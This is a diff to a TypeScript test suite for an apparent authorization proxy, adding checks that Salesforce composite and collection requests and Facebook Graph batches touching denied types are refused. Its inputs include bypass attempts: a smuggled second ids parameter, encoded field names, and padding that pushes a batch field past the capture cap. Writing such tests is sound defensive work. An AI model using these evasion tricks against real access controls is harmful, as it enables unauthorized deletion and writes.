@@ -1203,15 +1409,26 @@ t.test('property: a Facebook Graph batch (query, form, multipart, JSON) and Sale
   // Salesforce: a composite graph's calls, a tree's nested record, a collection's record (POST, PATCH).
   const sf = '/services/data/v58.0/composite';
   t.match((await post(`${sf}/tree/Account`, 'application/json', JSON.stringify({ records: [{ attributes: { type: 'Account', referenceId: 'a' }, Name: 'x', Contacts: { records: [{ attributes: { type: 'Contact', referenceId: 'c' }, LastName: 'y' }] } }] }), false)).text, /^HTTP\/1\.1 200/, 'control: a tree of allowed types goes through');
+  t.match((await post(sf, 'application/json', JSON.stringify({ compositeRequest: [{ method: 'POST', url: '/services/data/v58.0/composite/sobjects', referenceId: 'c', body: { records: [{ attributes: { type: 'Account' }, Name: 'x' }] } }] }), false)).text, /^HTTP\/1\.1 200/, 'control: a composite\'s collection of allowed types goes through');
   for (const [i, [method, path, envelope]] of ([
     ['POST', `${sf}/graph`, { graphs: [{ graphId: 'g', compositeRequest: [{ method: 'GET', url: '/services/data/v58.0/sobjects/Account/001', referenceId: 'a' }, { method: 'DELETE', url: '/services/data/v58.0/sobjects/Deny__c/002', referenceId: 'b' }] }] }],
     ['POST', `${sf}/tree/Account`, { records: [{ attributes: { type: 'Account', referenceId: 'a' }, Name: 'x', Denies__r: { records: [{ attributes: { type: 'Deny__c', referenceId: 'd' }, Name: 'y' }] } }] }],
     ['POST', `${sf}/sobjects`, { allOrNone: false, records: [{ attributes: { type: 'Account' }, Name: 'x' }, { attributes: { type: 'Deny__c' }, Name: 'y' }] }],
     ['PATCH', `${sf}/sobjects`, { records: [{ attributes: { type: 'Deny__c' }, id: 'a0B000000000001', Name: 'y' }] }],
+    // Sixteenth pass: a second target naming its own — a composite's sObject Collections call, whose records name their types.
+    ['POST', sf, { compositeRequest: [{ method: 'GET', url: '/services/data/v58.0/sobjects/Account/001', referenceId: 'a' }, { method: 'POST', url: '/services/data/v58.0/composite/sobjects', referenceId: 'c', body: { allOrNone: true, records: [{ attributes: { type: 'Account' }, Name: 'x' }, { attributes: { type: 'Deny__c' }, Name: 'y' }] } }] }],
+    ['POST', sf, { compositeRequest: [{ method: 'PATCH', url: '/services/data/v58.0/composite/sobjects', referenceId: 'c', body: { records: [{ attributes: { type: 'Deny__c' }, id: 'a0B000000000001', Name: 'y' }] } }] }],
   ] as const).entries()) {
     const [res] = parseResponses((await post(path, 'application/json', JSON.stringify(envelope), i % 2 === 1, method)).text);
     t.ok(res?.status === 403 && isProblem(res), `Salesforce ${method} ${path.slice(sf.length)} writing a denied type: 403 (${res?.status})`);
   }
+  // A collection delete names records by id: typed by the id's key prefix, a custom object's refused.
+  t.match((await post(`${sf}/sobjects?ids=001000000000001,003000000000002AAA`, '', '', false, 'DELETE')).text, /^HTTP\/1\.1 200/, 'control: a collection delete of accounts and contacts goes through');
+  for (const [i, ids] of ['005000000000001', '001000000000001,005000000000001AAA', 'a0B000000000001', '001000000000001&ids=a0B000000000001'].entries()) {
+    const [res] = parseResponses((await post(`${sf}/sobjects?ids=${ids}`, '', '', i % 2 === 1, 'DELETE')).text);
+    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res), `a collection delete of ${ids}: refused (${res?.status})`);
+  }
+  t.notOk(batchRan.some((c) => /^DELETE record (?:005|a0B)/.test(c)), 'no user or custom record was deleted by a collection delete');
   // A path the server fills from an earlier call's answer (a reference) anywhere but its id: refused.
   const ref = (url: string): unknown => ({ compositeRequest: [{ method: 'GET', url: '/services/data/v58.0/query?q=SELECT+Id+FROM+Account', referenceId: 'q' }, { method: 'DELETE', url, referenceId: 'd' }] });
   t.match((await post(sf, 'application/json', JSON.stringify(ref('/services/data/v58.0/sobjects/Account/@{q.records[0].Id}')), false)).text, /^HTTP\/1\.1 200/, 'control: a reference in the id position goes through');
@@ -1220,6 +1437,26 @@ t.test('property: a Facebook Graph batch (query, form, multipart, JSON) and Sale
   const [fbFilled] = parseResponses((await post(...place('form', [{ method: 'GET', relative_url: 'ok/dav/a.txt', name: 'q' }, { method: 'DELETE', relative_url: '{result=q:$.folder}/secret.txt' }]), false)).text);
   t.ok(fbFilled?.status === 400 && isProblem(fbFilled), `a Graph batch call whose path an earlier answer fills: 400 (${fbFilled?.status})`);
   t.notOk(batchRan.some((c) => c.includes('Deny__c')), 'the server never wrote a record of the denied type');
+  // Sixteenth pass (left open by the fifteenth): a `batch` field past the capture cap (2 KiB here,
+  // 1 MiB by default) was never read: the description and the readers see the captured start only
+  // (the reads up to the cap: a socket read is at most 64 KiB, so 300 KB of padding leaves the rest unread).
+  const pad = 'x'.repeat(300_000);
+  const calls = JSON.stringify([{ method: 'GET', relative_url: 'ok/dav/a.txt' }, { method: 'DELETE', relative_url: 'deny/secret.txt' }]);
+  const [bigControl] = parseResponses((await post('/v19.0/', 'application/x-www-form-urlencoded', `pad=${pad}&note=${encodeURIComponent('a batch of notes')}`, false)).text);
+  t.ok(bigControl !== undefined && !isProblem(bigControl), `control: a form past the cap without a batch field is forwarded (${bigControl?.status})`);
+  const mp = (name: string, filler: string): string => `--fb\r\nContent-Disposition: form-data; name="pad"\r\n\r\n${filler}\r\n--fb\r\nContent-Disposition: form-data; ${name}\r\n\r\n${calls}\r\n--fb--\r\n`;
+  const before = batchRan.length;
+  for (const [i, [type, body]] of ([
+    ['application/x-www-form-urlencoded', `pad=${pad}&batch=${encodeURIComponent(calls)}`],
+    ['application/x-www-form-urlencoded', `pad=${pad}&b%61tch=${encodeURIComponent(calls)}&x=1`],
+    ['application/x-www-form-urlencoded', `pad=${pad}${'&a=1'.repeat(500)}&batch=${encodeURIComponent(calls)}`],
+    ['multipart/form-data; boundary=fb', mp('name="batch"', pad)],
+    ['multipart/form-data; boundary=fb', mp("name*=utf-8''b%61tch", pad)],
+  ] as const).entries()) {
+    const [res] = parseResponses((await post('/v19.0/', type, body, i % 2 === 1)).text);
+    t.ok(res?.status === 400 && isProblem(res), `a ${type.split(';')[0]} body with a batch field past the capture cap: 400 (${res?.status})`);
+  }
+  t.notOk(batchRan.slice(before).some((c) => c.includes('/deny')), 'no batch call past the capture cap ran under /deny');
 });
 
 t.test('property: an S3 form upload\'s key, a WebDAV REPORT, SEARCH, BIND or REBIND href, a SCIM Bulk operation, an Azure batch request, a Firestore write, read or query and a GCS compose source are decided as the request each amounts to', async (t) => {
